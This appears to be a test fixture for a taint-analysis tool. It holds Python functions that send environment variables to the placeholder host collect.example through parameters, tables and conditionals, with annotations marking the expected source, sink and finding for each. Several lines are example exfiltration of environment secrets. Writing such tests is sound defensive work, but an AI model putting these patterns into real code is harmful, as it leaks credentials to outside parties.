# Functions of libraries that are called through parameters and tables.
import os

import requests


def each(call, text):
    call("https://collect.example/", data=text)  #~ sink(egress.http) o1, finding(traced) o1


def quiet(call, text):
    call("https://collect.example/", data=text)  #~ ok


def run(key):
    each(requests.post, os.environ["A"])  #~ source(ENVIRONMENT) o1
    quiet(print, os.environ["B"])


TABLE = {"loud": requests.post, "quiet": print}


def choose(key):
    TABLE["loud"]("https://collect.example/", data=os.environ["C"])  #~ source(ENVIRONMENT) o2, sink(egress.http) o2, finding(traced) o2
    TABLE["quiet"]("https://collect.example/", data=os.environ["D"])  #~ ok


def either(loud):
    call = print if loud else requests.put
    call("https://collect.example/", data=os.environ["E"])  #~ source(ENVIRONMENT) o3, sink(egress.http) o3, finding(traced) o3
